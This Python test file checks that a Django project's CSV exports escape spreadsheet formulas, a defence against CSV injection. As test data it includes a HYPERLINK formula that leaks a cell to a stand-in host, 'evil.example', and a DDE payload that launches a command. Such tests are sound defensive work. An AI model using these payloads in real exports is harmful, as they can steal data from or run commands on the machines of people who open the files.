"""One CSV writer, escaping spreadsheet formulas, behind every export (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command

from wsr.core.csv_export import CsvDictWriter, CsvWriter, csv_cell, csv_lines

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
WSR = Path(__file__).resolve().parents[2] / "wsr"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1555-0100", "'+1555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Plain name", "Plain name"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        ("-73.985", "-73.985"),
        ("+44", "+44"),
        ("-1-1", "'-1-1"),
        ("-5e3", "'-5e3"),
        (-5, -5),
        (40, 40),
    ],
)
def test_a_cell_is_escaped_only_when_a_spreadsheet_would_evaluate_it(value, written):
    assert csv_cell(value) == written


def test_the_writers_escape_every_cell():
    out = io.StringIO()
    CsvWriter(out).writerow(["ok", ATTACK, -3])
    dict_out = io.StringIO()
    writer = CsvDictWriter(dict_out, fieldnames=["name", "n"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "@cmd", "n": 2})
    streamed = "".join(csv_lines(["h"], [["=x"], ["y"]]))

    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["ok", "'" + ATTACK, "-3"]
    assert dict_out.getvalue() == "name,n\n'@cmd,2\n"
    assert list(csv.reader(io.StringIO(streamed))) == [["h"], ["'=x"], ["y"]]


@pytest.mark.django_db
def test_the_facility_export_command_escapes_cells(personas):
    personas.facility_x.name = "=cmd|' /C calc'!A0"
    personas.facility_x.save(update_fields=["name"])
    out = io.StringIO()
    call_command("export_facilities", "--program", personas.program.slug, stdout=out)
    names = [r["name"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert "'=cmd|' /C calc'!A0" in names


def test_no_module_writes_csv_without_the_escaping_writer():
    # Every CSV export goes through wsr.core.csv_export (the complaints package keeps its own,
    # escaped the same way, under its owner's care).
    offenders = []
    for path in WSR.rglob("*.py"):
        relative = path.relative_to(WSR).as_posix()
        if relative == "core/csv_export.py" or relative.startswith("complaints/"):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []
